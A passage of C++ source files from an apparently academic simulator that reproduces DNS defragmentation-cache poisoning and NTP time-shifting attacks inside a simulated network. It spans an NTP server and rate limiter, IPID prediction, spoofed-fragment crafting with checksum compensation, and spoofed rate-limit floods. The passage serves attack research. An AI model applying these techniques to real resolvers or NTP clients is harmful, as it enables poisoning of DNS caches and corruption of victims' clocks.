  if (is_config_request(payload)) {
    if (config_.open_config_interface) {
      ConfigResponse resp;
      if (upstream_ != kAnyAddr) resp.upstream_addrs.push_back(upstream_);
      resp.configured_hostname = config_.configured_hostname;
      stack_.send_udp(from.addr, kNtpPort, from.port,
                      encode_config_response_buf(resp));
    }
    return;
  }

  NtpPacket query;
  try {
    query = decode_ntp(payload);
  } catch (const DecodeError&) {
    return;
  }
  if (query.mode != Mode::kClient) return;
  queries_++;

  sim::Time now = stack_.now();
  switch (limiter_.check(from.addr, now)) {
    case RateLimiter::Action::kDrop:
      dropped_++;
      return;
    case RateLimiter::Action::kKod: {
      kods_++;
      NtpPacket kod;
      kod.mode = Mode::kServer;
      kod.stratum = 0;
      kod.refid = kKodRate;
      kod.poll = query.poll;
      kod.org_time = query.tx_time;
      stack_.send_udp(from.addr, kNtpPort, from.port, encode_ntp_buf(kod));
      return;
    }
    case RateLimiter::Action::kRespond:
      break;
  }

  double wall = clock_.wall_seconds(now) + config_.time_shift;
  NtpPacket resp;
  resp.mode = Mode::kServer;
  resp.stratum = config_.stratum;
  resp.poll = query.poll;
  resp.refid = upstream_.value();
  resp.ref_time = wall - 16.0;  // pretend last sync 16 s ago
  resp.org_time = query.tx_time;
  resp.rx_time = wall;
  resp.tx_time = wall;
  responses_++;
  stack_.send_udp(from.addr, kNtpPort, from.port, encode_ntp_buf(resp));
}

}  // namespace dnstime::ntp
