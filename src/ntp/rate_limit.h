// NTP server-side rate limiting (ntpd `restrict limited [kod]` /
// `discard`, chrony `ratelimit` semantics).
//
// Two mechanisms, as in deployed servers:
//  * a hard minimum inter-arrival gap (`discard minimum`): packets that
//    arrive faster are dropped outright — this is what the run-time
//    attack's spoofed flood exploits (§IV-B2): with sub-gap spacing, the
//    server drops *everything* sourced from the victim's address,
//    including the victim's genuine polls;
//  * a token bucket bounding the average rate (`discard average`): a
//    burst is tolerated, then roughly one response per `avg_interval` —
//    this produces the scan signature of §VII-A (plenty of answers in the
//    first half of a 64-query/1 Hz probe, silence in the second half).
#pragma once

#include <unordered_map>

#include "common/rng.h"
#include "common/types.h"
#include "sim/time.h"

namespace dnstime::ntp {

struct RateLimitConfig {
  bool enabled = false;
  /// Packets closer together than this are dropped unconditionally.
  sim::Duration min_gap = sim::Duration::millis(500);
  /// Token-bucket depth: tolerated burst size.
  double burst = 16.0;
  /// Refill: one token per this interval (the enforced average rate).
  sim::Duration avg_interval = sim::Duration::seconds(8);
  /// Send a Kiss-o'-Death on the first drop of a dry spell (ntpd `kod`).
  /// §VII-A: 33% of pool servers KoD; the rest just go silent.
  bool send_kod = true;
  /// Fraction of over-limit queries answered anyway ("some servers will
  /// answer a small fraction of queries, even during the client is
  /// rate-limited").
  double leak_probability = 0.0;
};

class RateLimiter {
 public:
  enum class Action { kRespond, kKod, kDrop };

  explicit RateLimiter(RateLimitConfig config, Rng rng = Rng{0x7a7e})
      : config_(config), rng_(std::move(rng)) {}

  /// Account one query from `src` at `now` and decide the response.
  Action check(Ipv4Addr src, sim::Time now);

  /// True if a query from `src` arriving now would be refused.
  [[nodiscard]] bool is_limited(Ipv4Addr src, sim::Time now) const;
  [[nodiscard]] const RateLimitConfig& config() const { return config_; }

 private:
  struct SourceState {
    sim::Time last_arrival;
    double tokens = 0.0;
    bool kod_sent = false;
    bool seen = false;
  };

  Action limited_action(SourceState& st);

  RateLimitConfig config_;
  Rng rng_;
  std::unordered_map<Ipv4Addr, SourceState> sources_;
};

}  // namespace dnstime::ntp
