// Per-host system clock.
//
// wall = kSimEpochNtpSeconds + simulated-elapsed + offset. The offset is
// what NTP discipline adjusts and what a time-shifting attack corrupts;
// attack success in the Table II experiments is "victim clock offset
// reaches the attacker's shift".
#pragma once

#include <algorithm>
#include <optional>
#include <vector>

#include "ntp/timestamps.h"
#include "sim/time.h"

namespace dnstime::ntp {

class SystemClock {
 public:
  explicit SystemClock(double initial_offset_seconds = 0.0)
      : offset_(initial_offset_seconds) {}

  /// Current wall-clock reading (NTP-era seconds) at simulation time `now`.
  [[nodiscard]] double wall_seconds(sim::Time now) const {
    return kSimEpochNtpSeconds + now.to_seconds() + offset_;
  }

  /// Offset from true time (seconds). 0 = perfectly synchronised.
  [[nodiscard]] double offset() const { return offset_; }

  /// Step the clock by `delta` seconds (positive = forward).
  void step(double delta, sim::Time now) {
    offset_ += delta;
    steps_.push_back({now, delta});
  }

  /// Gradual adjustment; the simulator applies it instantly but records it
  /// separately so tests can distinguish slew from step.
  void slew(double delta, sim::Time now) {
    offset_ += delta;
    slews_.push_back({now, delta});
  }

  struct Adjustment {
    sim::Time at;
    double delta;
  };
  [[nodiscard]] const std::vector<Adjustment>& steps() const { return steps_; }
  [[nodiscard]] const std::vector<Adjustment>& slews() const { return slews_; }

  /// First moment the clock's offset moved past `threshold` seconds away
  /// from zero — the "attack succeeded at" timestamp for Table II.
  [[nodiscard]] std::optional<sim::Time> first_shift_beyond(
      double threshold) const {
    double running = 0.0;
    for (const auto& adj : merged()) {
      running += adj.delta;
      if (running < -threshold || running > threshold) return adj.at;
    }
    return std::nullopt;
  }

 private:
  [[nodiscard]] std::vector<Adjustment> merged() const {
    std::vector<Adjustment> all = steps_;
    all.insert(all.end(), slews_.begin(), slews_.end());
    std::sort(all.begin(), all.end(),
              [](const Adjustment& a, const Adjustment& b) {
                return a.at < b.at;
              });
    return all;
  }

  double offset_;
  std::vector<Adjustment> steps_;
  std::vector<Adjustment> slews_;
};

}  // namespace dnstime::ntp
