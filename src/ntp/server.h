// NTP server (mode 3 -> mode 4 responder).
//
// Configurable per the paper's server-side measurements:
//  * rate limiting + KoD (§VII-A: 38% of pool servers rate-limit, 33% KoD);
//  * time shift — attacker-operated servers answer with shifted time
//    (§V-A2: the lab attack served time shifted by -500 s);
//  * open configuration interface (§IV-B2c: 5.3% leak config);
//  * refid leakage of the upstream ("system peer") address (§IV-B2b) — for
//    servers that are simultaneously clients, the client model feeds the
//    current upstream in via set_upstream().
#pragma once

#include "net/netstack.h"
#include "ntp/clock.h"
#include "ntp/packet.h"
#include "ntp/rate_limit.h"

namespace dnstime::ntp {

struct ServerConfig {
  RateLimitConfig rate_limit;
  /// Constant shift (seconds) applied to served time; nonzero for
  /// attacker-controlled servers.
  double time_shift = 0.0;
  u8 stratum = 2;
  /// Answer mode-6 configuration queries with upstream addresses and the
  /// configured hostname.
  bool open_config_interface = false;
  std::string configured_hostname;
};

class NtpServer {
 public:
  NtpServer(net::NetStack& stack, SystemClock& clock, ServerConfig config);
  ~NtpServer();

  NtpServer(const NtpServer&) = delete;
  NtpServer& operator=(const NtpServer&) = delete;

  /// Current upstream ("system peer"); exposed as the refid of mode-4
  /// responses, which is the §IV-B2b leak.
  void set_upstream(Ipv4Addr addr) { upstream_ = addr; }
  [[nodiscard]] Ipv4Addr upstream() const { return upstream_; }

  [[nodiscard]] u64 queries_received() const { return queries_; }
  [[nodiscard]] u64 responses_sent() const { return responses_; }
  [[nodiscard]] u64 kods_sent() const { return kods_; }
  [[nodiscard]] u64 dropped_rate_limited() const { return dropped_; }
  [[nodiscard]] RateLimiter& rate_limiter() { return limiter_; }
  [[nodiscard]] const ServerConfig& config() const { return config_; }

 private:
  void on_packet(const net::UdpEndpoint& from, BufView payload);

  net::NetStack& stack_;
  SystemClock& clock_;
  ServerConfig config_;
  RateLimiter limiter_;
  Ipv4Addr upstream_;
  u64 queries_ = 0;
  u64 responses_ = 0;
  u64 kods_ = 0;
  u64 dropped_ = 0;
};

}  // namespace dnstime::ntp
