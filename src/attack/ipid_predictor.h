// IPID measurement and extrapolation (§III-2).
//
// Nameservers with a globally sequential IPID counter reveal, through a
// handful of probe queries, both the counter's current value and the rate
// at which background traffic advances it. The attacker extrapolates the
// IPID the nameserver will assign to its response to the victim resolver
// and sprays fragments over a window of candidate values (bounded by the
// victim OS's per-pair fragment-cache cap: 64 on Linux, 100 on Windows).
#pragma once

#include <functional>
#include <vector>

#include "dns/message.h"
#include "net/netstack.h"

namespace dnstime::attack {

struct IpidPrediction {
  bool valid = false;
  u16 last_observed = 0;
  sim::Time observed_at;
  double rate_per_second = 0.0;  ///< counter increments per second
  /// Extrapolate the counter at `when` (mod 2^16).
  [[nodiscard]] u16 predict_at(sim::Time when) const {
    double dt = (when - observed_at).to_seconds();
    return static_cast<u16>(last_observed +
                            static_cast<u32>(rate_per_second * dt) + 1);
  }
};

class IpidProber {
 public:
  struct Config {
    dns::DnsName probe_name = dns::DnsName::from_string("pool.ntp.org");
    int probes = 5;
    sim::Duration spacing = sim::Duration::millis(500);
  };

  IpidProber(net::NetStack& attacker, Ipv4Addr target_ns, Config config);
  ~IpidProber();

  /// Send the probe train; calls `done` with the fitted prediction.
  void run(std::function<void(const IpidPrediction&)> done);

  [[nodiscard]] const std::vector<std::pair<sim::Time, u16>>& samples() const {
    return samples_;
  }

 private:
  void send_probe();
  void finish();

  net::NetStack& stack_;
  Ipv4Addr target_;
  Config config_;
  u64 tap_token_ = 0;
  int sent_ = 0;
  std::vector<std::pair<sim::Time, u16>> samples_;
  std::function<void(const IpidPrediction&)> done_;
};

/// Candidate IPIDs to spray for a response expected around `when`:
/// centred just above the prediction, `width` consecutive values.
[[nodiscard]] std::vector<u16> spray_window(const IpidPrediction& prediction,
                                            sim::Time when,
                                            std::size_t width);

}  // namespace dnstime::attack
