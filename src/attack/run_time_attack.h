// Run-time attack orchestrator (§IV-B, Fig. 3; Table II scenarios).
//
// Removes the victim NTP client's existing associations by abusing
// server-side rate limiting, with three upstream-discovery strategies:
//   kKnownList (Scenario P1)   — flood every address the attacker
//                                enumerated from the pool zone;
//   kRefidLeak (Scenario P2)   — learn upstreams one at a time from the
//                                refid of the victim's own mode-4
//                                responses (client-as-server leak);
//   kConfigInterface           — read the full peer list from an exposed
//                                mode-6 configuration interface.
// Success (the victim's clock carries the attacker's shift) is detected
// via the injected success check, since an off-path attacker cannot read
// the victim clock — the check stands in for the attacker observing e.g.
// an expired TLS handshake on the victim.
#pragma once

#include "attack/ratelimit_abuser.h"
#include "attack/boot_time_attack.h"

namespace dnstime::attack {

struct RunTimeConfig {
  enum class Discovery { kKnownList, kRefidLeak, kConfigInterface };
  Discovery discovery = Discovery::kKnownList;
  /// P1: the enumerated candidate upstream list (2000-3000 addresses for
  /// pool.ntp.org per §IV-B2a).
  std::vector<Ipv4Addr> known_servers;
  /// The victim NTP client host (spoof source for floods; refid queries).
  Ipv4Addr victim;
  AbuserConfig abuse;
  sim::Duration discovery_interval = sim::Duration::seconds(32);
  sim::Duration check_interval = sim::Duration::seconds(30);
  sim::Duration deadline = sim::Duration::hours(4);
};

class RunTimeAttack {
 public:
  RunTimeAttack(net::NetStack& attacker, RunTimeConfig config);

  /// `success_check` is polled every check_interval.
  void run(std::function<bool()> success_check,
           std::function<void(const AttackOutcome&)> done);
  void stop();

  [[nodiscard]] RateLimitAbuser& abuser() { return abuser_; }
  [[nodiscard]] const std::vector<Ipv4Addr>& discovered() const {
    return discovered_;
  }

 private:
  void discover();
  void query_refid();
  void query_config();
  void note_upstream(Ipv4Addr addr);
  void tick();
  void finish(bool success);

  net::NetStack& stack_;
  RunTimeConfig config_;
  RateLimitAbuser abuser_;
  std::vector<Ipv4Addr> discovered_;
  std::function<bool()> success_check_;
  std::function<void(const AttackOutcome&)> done_;
  sim::Time started_;
  bool finished_ = false;
};

}  // namespace dnstime::attack
