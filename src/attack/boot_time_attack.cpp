#include "attack/boot_time_attack.h"

#include "obs/trace.h"

namespace dnstime::attack {

BootTimeAttack::BootTimeAttack(net::NetStack& attacker, BootTimeConfig config)
    : stack_(attacker),
      config_(std::move(config)),
      poisoner_(attacker, config_.poison) {}

void BootTimeAttack::run(std::function<void(const AttackOutcome&)> done) {
  done_ = std::move(done);
  started_ = stack_.now();
  DNSTIME_TRACE_BEGIN(started_.ns(), "attack", "poison");
  poisoner_.start();
  if (config_.trigger != BootTimeConfig::Trigger::kNone) {
    // Give the first spray a moment to arm before forcing the query.
    stack_.loop().schedule_after(sim::Duration::seconds(5),
                                 [this] { fire_trigger(); });
  }
  stack_.loop().schedule_after(config_.check_interval, [this] { tick(); });
}

void BootTimeAttack::stop() {
  finished_ = true;
  poisoner_.stop();
}

void BootTimeAttack::fire_trigger() {
  if (finished_) return;
  switch (config_.trigger) {
    case BootTimeConfig::Trigger::kOpenResolver:
      QueryTrigger::via_open_resolver(stack_, config_.poison.resolver_addr,
                                      config_.poison.target_name);
      break;
    case BootTimeConfig::Trigger::kSmtp:
      QueryTrigger::via_smtp(stack_, config_.smtp_host,
                             config_.poison.target_name);
      break;
    case BootTimeConfig::Trigger::kNone:
      break;
  }
  stack_.loop().schedule_after(config_.trigger_interval,
                               [this] { fire_trigger(); });
}

void BootTimeAttack::tick() {
  if (finished_) return;
  if (stack_.now() - started_ > config_.deadline) {
    finish(false);
    return;
  }
  if (success_check_) {
    if (success_check_()) {
      finish(true);
    } else {
      stack_.loop().schedule_after(config_.check_interval,
                                   [this] { tick(); });
    }
    return;
  }
  // Default: RD=0 probe of the (open) resolver for one of the glue names
  // we rewrote — we probe the poison target name itself.
  poisoner_.verify_poisoned(config_.poison.target_name, [this](bool hit) {
    if (finished_) return;
    if (hit) {
      finish(true);
    } else {
      stack_.loop().schedule_after(config_.check_interval,
                                   [this] { tick(); });
    }
  });
}

void BootTimeAttack::finish(bool success) {
  if (finished_) return;
  finished_ = true;
  DNSTIME_TRACE_END(stack_.now().ns(), "attack", "poison");
  poisoner_.stop();
  AttackOutcome outcome;
  outcome.success = success;
  outcome.at = stack_.now();
  outcome.fragments_planted = poisoner_.fragments_planted();
  outcome.replant_rounds = poisoner_.replant_rounds();
  if (done_) done_(outcome);
}

}  // namespace dnstime::attack
