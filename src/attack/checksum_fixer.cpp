#include "attack/checksum_fixer.h"

#include "net/checksum.h"

namespace dnstime::attack {

u16 compensation_value(std::span<const u8> original,
                       std::span<const u8> mutated_with_hole) {
  u16 target = net::ones_complement_sum(original);
  u16 current = net::ones_complement_sum(mutated_with_hole);
  return net::ones_complement_sub(target, current);
}

void store_word(Bytes& buf, std::size_t offset, u16 value) {
  buf[offset] = static_cast<u8>(value >> 8);
  buf[offset + 1] = static_cast<u8>(value);
}

bool sums_equal(std::span<const u8> a, std::span<const u8> b) {
  u16 sa = net::ones_complement_sum(a);
  u16 sb = net::ones_complement_sum(b);
  if (sa == sb) return true;
  return (sa == 0 && sb == 0xFFFF) || (sa == 0xFFFF && sb == 0);
}

bool fix_fragment_sum(std::span<const u8> original, Bytes& mutated,
                      std::size_t fix_offset) {
  if (fix_offset % 2 != 0) return false;  // would straddle word pairing
  if (fix_offset + 2 > mutated.size()) return false;
  store_word(mutated, fix_offset, 0);
  u16 fix = compensation_value(original, mutated);
  store_word(mutated, fix_offset, fix);
  return sums_equal(original, mutated);
}

}  // namespace dnstime::attack
