#include "attack/ipid_predictor.h"

namespace dnstime::attack {

IpidProber::IpidProber(net::NetStack& attacker, Ipv4Addr target_ns,
                       Config config)
    : stack_(attacker), target_(target_ns), config_(std::move(config)) {}

IpidProber::~IpidProber() {
  if (tap_token_ != 0) stack_.remove_packet_tap(tap_token_);
}

void IpidProber::run(std::function<void(const IpidPrediction&)> done) {
  done_ = std::move(done);
  samples_.clear();
  sent_ = 0;
  tap_token_ = stack_.add_packet_tap([this](const net::Ipv4Packet& pkt) {
    // Record the IPID of every packet the target sends us (first fragment
    // or whole packet both carry the counter value).
    if (pkt.src != target_) return;
    if (pkt.frag_offset_units != 0) return;
    samples_.emplace_back(stack_.now(), pkt.id);
  });
  send_probe();
}

void IpidProber::send_probe() {
  if (sent_ >= config_.probes) {
    // Allow the last response to arrive before fitting.
    stack_.loop().schedule_after(sim::Duration::millis(500),
                                 [this] { finish(); });
    return;
  }
  sent_++;
  dns::DnsMessage query;
  query.id = stack_.rng().next_u16();
  query.rd = false;
  query.questions = {dns::DnsQuestion{config_.probe_name, dns::RrType::kA}};
  u16 port = stack_.ephemeral_port();
  // Responses land on the bound port; the tap sees their IPIDs. The
  // handler exists purely to own/release the port.
  stack_.bind_udp(port,
                  [](const net::UdpEndpoint&, u16, BufView) {});
  stack_.send_udp(target_, port, kDnsPort, encode_dns_buf(query));
  stack_.loop().schedule_after(config_.spacing, [this, port] {
    stack_.unbind_udp(port);
    send_probe();
  });
}

void IpidProber::finish() {
  stack_.remove_packet_tap(tap_token_);
  tap_token_ = 0;
  IpidPrediction prediction;
  if (samples_.size() >= 2) {
    // Fit the increment rate over consecutive gaps, unwrapping mod 2^16.
    // Each of our own probes consumes one counter value (the response we
    // observed), so subtract one increment per gap: the remainder is the
    // background traffic rate we must extrapolate over.
    double total_incr = 0.0;
    double total_dt = 0.0;
    for (std::size_t i = 1; i < samples_.size(); ++i) {
      u16 delta = static_cast<u16>(samples_[i].second -
                                   samples_[i - 1].second);
      total_incr += delta >= 1 ? delta - 1 : 0;
      total_dt += (samples_[i].first - samples_[i - 1].first).to_seconds();
    }
    prediction.valid = total_dt > 0;
    prediction.rate_per_second = total_dt > 0 ? total_incr / total_dt : 0.0;
    prediction.last_observed = samples_.back().second;
    prediction.observed_at = samples_.back().first;
  } else if (samples_.size() == 1) {
    prediction.valid = true;
    prediction.rate_per_second = 0.0;
    prediction.last_observed = samples_.back().second;
    prediction.observed_at = samples_.back().first;
  }
  // Move the callback out first: it may destroy this prober (owners often
  // replace their prober from inside the completion callback).
  auto done = std::move(done_);
  done_ = nullptr;
  if (done) done(prediction);
}

std::vector<u16> spray_window(const IpidPrediction& prediction, sim::Time when,
                              std::size_t width) {
  std::vector<u16> out;
  out.reserve(width);
  u16 base = prediction.predict_at(when);
  for (std::size_t i = 0; i < width; ++i) {
    out.push_back(static_cast<u16>(base + i));
  }
  return out;
}

}  // namespace dnstime::attack
