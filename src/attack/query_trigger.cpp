#include "attack/query_trigger.h"

#include "obs/trace.h"

namespace dnstime::attack {

SmtpServer::SmtpServer(net::NetStack& stack, Ipv4Addr resolver)
    : stack_(stack), stub_(stack, resolver) {
  stack_.bind_udp(kSmtpPort, [this](const net::UdpEndpoint& from, u16,
                                    BufView payload) {
    mails_++;
    // Greeting banner: what a port scan observes (§VIII-B3's "small
    // portscan for SMTP servers").
    static const std::string kBanner = "220 mail ready";
    stack_.send_udp(from.addr, kSmtpPort, from.port,
                    Bytes(kBanner.begin(), kBanner.end()));
    std::string domain(payload.begin(), payload.end());
    if (domain.empty()) return;  // bare probe, no message
    // Anti-spam validation: resolve the sender's domain. The result is
    // irrelevant to the attacker — the *query* is the point.
    stub_.resolve(dns::DnsName::from_string(domain), dns::RrType::kA,
                  [](const std::vector<dns::ResourceRecord>&) {});
  });
}

SmtpServer::~SmtpServer() { stack_.unbind_udp(kSmtpPort); }

void QueryTrigger::via_open_resolver(net::NetStack& attacker,
                                     Ipv4Addr resolver,
                                     const dns::DnsName& name) {
  dns::DnsMessage query;
  query.id = attacker.rng().next_u16();
  query.rd = true;
  query.questions = {dns::DnsQuestion{name, dns::RrType::kA}};
  u16 port = attacker.ephemeral_port();
  attacker.bind_udp(port, [&attacker, port](const net::UdpEndpoint&, u16,
                                            BufView) {
    attacker.unbind_udp(port);
  });
  DNSTIME_TRACE_INSTANT(attacker.now().ns(), "attack", "trigger");
  attacker.send_udp(resolver, port, kDnsPort, encode_dns_buf(query));
}

void QueryTrigger::via_smtp(net::NetStack& attacker, Ipv4Addr smtp_host,
                            const dns::DnsName& name) {
  std::string domain = name.to_string();
  DNSTIME_TRACE_INSTANT(attacker.now().ns(), "attack", "trigger");
  attacker.send_udp(smtp_host, attacker.ephemeral_port(), kSmtpPort,
                    Bytes(domain.begin(), domain.end()));
}

}  // namespace dnstime::attack
