// UDP checksum compensation (§III-3).
//
// The UDP checksum of the reassembled datagram lives in the first fragment
// and cannot be altered by the off-path attacker. A spoofed second
// fragment f2' therefore must satisfy sum1(f2') == sum1(f2) — achieved by
// writing a compensation value into a sacrificial 16-bit word:
//   f2' = f2* - (sum1(f2*) - sum1(f2))     [ones' complement arithmetic]
// where f2* is the mutated fragment with the sacrificial word zeroed.
#pragma once

#include <cstddef>
#include <optional>
#include <span>

#include "common/bytes.h"
#include "common/types.h"

namespace dnstime::attack {

/// Compute the value to store at the (zeroed, even-offset) sacrificial
/// word of `mutated` so that its ones' complement sum equals `original`'s.
[[nodiscard]] u16 compensation_value(std::span<const u8> original,
                                     std::span<const u8> mutated_with_hole);

/// Write a 16-bit big-endian word at `offset`.
void store_word(Bytes& buf, std::size_t offset, u16 value);

/// True if the two buffers have equal ones' complement sums (treating
/// 0x0000 and 0xFFFF as the same value, as ones' complement does).
[[nodiscard]] bool sums_equal(std::span<const u8> a, std::span<const u8> b);

/// Apply the full §III-3 procedure in place: zero the sacrificial word at
/// `fix_offset` (must be even and fully inside `mutated`), then store the
/// compensation. Returns false if the offset is unusable.
[[nodiscard]] bool fix_fragment_sum(std::span<const u8> original,
                                    Bytes& mutated, std::size_t fix_offset);

}  // namespace dnstime::attack
