// Techniques for making the victim resolver issue the DNS query the
// poisoning needs (§IV-A / §VIII-B3): directly if it is an open resolver,
// or through another system sharing the same resolver (Email anti-spam
// lookups, web clients).
#pragma once

#include "dns/resolver.h"

namespace dnstime::attack {

/// A mail host sharing the victim's resolver: on every delivered message
/// it looks up the sender's domain (anti-spam validation). The "SMTP"
/// transaction is modelled as a single UDP message to port 25 whose
/// payload is the sender domain.
class SmtpServer {
 public:
  SmtpServer(net::NetStack& stack, Ipv4Addr resolver);
  ~SmtpServer();

  SmtpServer(const SmtpServer&) = delete;
  SmtpServer& operator=(const SmtpServer&) = delete;

  [[nodiscard]] u64 mails_received() const { return mails_; }
  [[nodiscard]] u64 lookups_triggered() const { return stub_.queries_sent(); }

 private:
  net::NetStack& stack_;
  dns::StubResolver stub_;
  u64 mails_ = 0;
};

class QueryTrigger {
 public:
  /// (§IV-A option 2a) Open resolver: query it directly with RD=1.
  static void via_open_resolver(net::NetStack& attacker, Ipv4Addr resolver,
                                const dns::DnsName& name);

  /// (§IV-A option 2b / §VIII-B3) Send a mail whose sender domain is
  /// `name`; the mail host's anti-spam lookup issues the query through the
  /// shared resolver.
  static void via_smtp(net::NetStack& attacker, Ipv4Addr smtp_host,
                       const dns::DnsName& name);
};

}  // namespace dnstime::attack
