// NTP rate-limit abuse (§IV-B2): spoofed mode-3 floods that make a server
// rate-limit the *victim*, so the victim's genuine polls go unanswered and
// the association looks dead — without any denial of service against the
// server itself.
#pragma once

#include <unordered_map>
#include <vector>

#include "net/netstack.h"

namespace dnstime::attack {

struct AbuserConfig {
  /// Inter-packet spacing of the spoofed query stream per target server.
  /// Must stay below the server's `discard minimum` gap so every packet
  /// sourced from the victim — including the victim's genuine polls —
  /// is refused unconditionally.
  sim::Duration spacing = sim::Duration::millis(400);
};

class RateLimitAbuser {
 public:
  RateLimitAbuser(net::NetStack& attacker, Ipv4Addr victim,
                  AbuserConfig config = {});
  ~RateLimitAbuser();

  RateLimitAbuser(const RateLimitAbuser&) = delete;
  RateLimitAbuser& operator=(const RateLimitAbuser&) = delete;

  /// Start/extend the spoofed stream against `server`. Idempotent.
  void disrupt(Ipv4Addr server);
  void disrupt_all(const std::vector<Ipv4Addr>& servers);
  /// Stop flooding one server / everything.
  void relent(Ipv4Addr server);
  void stop();

  [[nodiscard]] u64 packets_spoofed() const { return spoofed_; }
  [[nodiscard]] std::size_t active_targets() const { return targets_.size(); }

 private:
  void flood_tick(Ipv4Addr server);

  net::NetStack& stack_;
  Ipv4Addr victim_;
  AbuserConfig config_;
  std::unordered_map<Ipv4Addr, sim::EventHandle> targets_;
  u64 spoofed_ = 0;
};

}  // namespace dnstime::attack
