// Defragmentation-cache poisoning orchestrator (§III + §IV-A option 3).
//
// Pipeline: force a small path MTU at the nameserver (spoofed ICMP) →
// fetch a response template by querying the nameserver directly → craft
// the spoofed second fragment → measure the IPID counter → plant a spray
// of fragments in the victim resolver's defragmentation cache, replanting
// every `replant_interval` (< the resolver OS's reassembly timeout) so a
// spoofed fragment is always waiting when the victim's query finally
// triggers the genuine response. "This approach requires a low attack
// volume which can be completed with only one low bandwidth attacking
// host."
#pragma once

#include <functional>
#include <optional>

#include "attack/fragment_crafter.h"
#include "attack/ipid_predictor.h"

namespace dnstime::attack {

struct PoisonerConfig {
  Ipv4Addr ns_addr;
  Ipv4Addr resolver_addr;
  u16 mtu = 296;
  std::vector<Ipv4Addr> malicious_addrs;
  /// Question used to fetch the template and to aim the poisoning at.
  dns::DnsName target_name = dns::DnsName::from_string("pool.ntp.org");
  /// Fragment replant cadence. Chosen just *past* the victim's reassembly
  /// timeout (30 s Linux / 60-120 s Windows): a duplicate fragment planted
  /// while the old cache entry is still alive is a no-op that does not
  /// extend the entry's lifetime, so replanting early merely guarantees a
  /// coverage hole when the old entry expires. Replanting right after
  /// expiry keeps the window fresh with a hole of at most a second or two
  /// per cycle.
  sim::Duration replant_interval = sim::Duration::seconds(31);
  /// Candidate IPIDs per replant round (bounded by the victim's per-pair
  /// fragment-cache cap: 64 Linux / 100 Windows).
  std::size_t spray_width = 16;
  IpidProber::Config ipid;
};

class CachePoisoner {
 public:
  CachePoisoner(net::NetStack& attacker, PoisonerConfig config);
  ~CachePoisoner();

  CachePoisoner(const CachePoisoner&) = delete;
  CachePoisoner& operator=(const CachePoisoner&) = delete;

  /// Run the pipeline; `on_armed` fires after the first spray is planted.
  void start(std::function<void()> on_armed = nullptr);
  void stop();

  [[nodiscard]] bool armed() const { return armed_; }
  [[nodiscard]] u64 fragments_planted() const { return planted_; }
  [[nodiscard]] u64 replant_rounds() const { return rounds_; }
  [[nodiscard]] const std::optional<CraftedFragment>& crafted() const {
    return crafted_;
  }
  [[nodiscard]] const IpidPrediction& prediction() const {
    return prediction_;
  }

  /// RD=0 probe against an *open* victim resolver: reports whether `name`
  /// currently resolves (from cache) to one of our malicious addresses.
  void verify_poisoned(const dns::DnsName& name,
                       std::function<void(bool poisoned)> done);

 private:
  void fetch_template();
  void measure_ipid();
  void replant();

  net::NetStack& stack_;
  PoisonerConfig config_;
  Bytes template_response_;
  std::optional<CraftedFragment> crafted_;
  IpidPrediction prediction_;
  std::unique_ptr<IpidProber> prober_;
  sim::EventHandle replant_event_;
  std::function<void()> on_armed_;
  bool running_ = false;
  bool armed_ = false;
  u64 planted_ = 0;
  u64 rounds_ = 0;
};

}  // namespace dnstime::attack
