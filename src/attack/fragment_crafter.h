// Spoofed second-fragment construction (§III-2/3).
//
// Input: a *template* of the DNS response the nameserver will send to the
// victim resolver (the attacker obtains it by querying the nameserver
// itself — the response tail carrying the zone's NS/glue records does not
// vary per query, while the per-query fields (TXID, UDP checksum, rotated
// answers) all sit in the first fragment, which the attacker never
// touches).
//
// The crafter:
//  1. computes where the fragment boundary falls for the attacker-induced
//     path MTU;
//  2. rewrites every A-record rdata lying wholly inside the second
//     fragment to attacker-controlled addresses, and raises their TTLs;
//  3. repairs the ones' complement sum via a sacrificial word inside a
//     rewritten record's TTL field, so the UDP checksum in the first
//     fragment still verifies after reassembly;
//  4. emits the spoofed fragment (src = nameserver, MF = 0, matching
//     offset); the caller assigns sprayed IPID values.
#pragma once

#include <optional>
#include <vector>

#include "dns/message.h"
#include "net/ipv4.h"

namespace dnstime::attack {

struct CraftConfig {
  Ipv4Addr ns_addr;        ///< genuine nameserver (spoofed source)
  Ipv4Addr resolver_addr;  ///< victim resolver (destination)
  u16 mtu = 296;           ///< path MTU forced via ICMP
  /// Replacement addresses, cycled across rewritten records.
  std::vector<Ipv4Addr> malicious_addrs;
  /// High byte of rewritten TTLs; 0x01 => TTL >= 2^24 s regardless of the
  /// compensation value stored in the lower bytes (the resolver's own
  /// max-TTL cap bounds it, still far above the 24 h the Chronos attack
  /// needs).
  u8 ttl_high_byte = 0x01;
};

struct CraftedFragment {
  net::Ipv4Packet fragment;          ///< IPID left 0; caller sprays values
  std::size_t rewritten_records = 0; ///< A records redirected
  std::size_t first_fragment_payload = 0;  ///< bytes of datagram in f1
  std::size_t fix_offset_in_fragment = 0;  ///< where compensation landed
};

/// Build the spoofed fragment from the template DNS message bytes.
/// Returns nullopt when the attack is impossible for this response/MTU:
/// response does not fragment, no A-record rdata fully inside f2, or no
/// usable sacrificial TTL word.
[[nodiscard]] std::optional<CraftedFragment> craft_spoofed_second_fragment(
    std::span<const u8> template_dns_response, const CraftConfig& config);

}  // namespace dnstime::attack
