#include "attack/chronos_attack.h"

#include "obs/trace.h"

namespace dnstime::attack {

ChronosAttack::ChronosAttack(net::NetStack& attacker,
                             ChronosAttackConfig config)
    : stack_(attacker), config_(std::move(config)) {}

bool ChronosAttack::attacker_wins(int honest_rounds,
                                  std::size_t malicious_count) {
  // Pool after the poisoning freezes: 4N honest + malicious_count ours.
  double honest = 4.0 * honest_rounds;
  double total = honest + static_cast<double>(malicious_count);
  return static_cast<double>(malicious_count) >= (2.0 / 3.0) * total;
}

int ChronosAttack::max_tolerable_honest_rounds(std::size_t malicious_count) {
  int n = -1;
  while (attacker_wins(n + 1, malicious_count)) n++;
  return n;
}

void ChronosAttack::inject_whitebox(dns::Resolver& resolver) const {
  DNSTIME_TRACE_INSTANT(stack_.now().ns(), "attack", "poison-injected",
                        static_cast<u64>(config_.malicious_ntp.size()));
  std::vector<dns::ResourceRecord> rrset;
  rrset.reserve(config_.malicious_ntp.size());
  for (Ipv4Addr addr : config_.malicious_ntp) {
    rrset.push_back(dns::make_a(config_.pool_name, addr, config_.record_ttl));
  }
  resolver.cache().insert(config_.pool_name, dns::RrType::kA,
                          std::move(rrset), stack_.now());
}

}  // namespace dnstime::attack
