#include "attack/run_time_attack.h"

#include "ntp/packet.h"
#include "obs/trace.h"

namespace dnstime::attack {

